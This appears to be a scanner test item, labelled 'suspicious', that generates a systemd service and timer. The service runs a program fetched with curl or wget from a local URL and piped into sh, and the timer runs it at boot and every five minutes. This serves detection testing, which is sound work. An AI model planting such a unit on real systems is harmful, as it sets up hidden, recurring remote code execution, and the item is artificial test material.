# id: P112
# mode: scan
# level: suspicious
# title: a timer and a unit that fetches a program and runs it
# due: now
word name
unit=/etc/systemd/system/$name
pick get 'curl -s' 'wget -qO-'
printf '[Unit]\nDescription=%s\n[Service]\nType=oneshot\nExecStart=/bin/sh -c "%s http://127.0.0.1/%s | sh"\n' "$name" "$get" "$name" >"$unit.service"
printf '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n[Install]\nWantedBy=timers.target\n' >"$unit.timer"
ln -s "$unit.timer" /etc/systemd/system/timers.target.wants/
said path "$unit.service"
said path "$unit.timer"
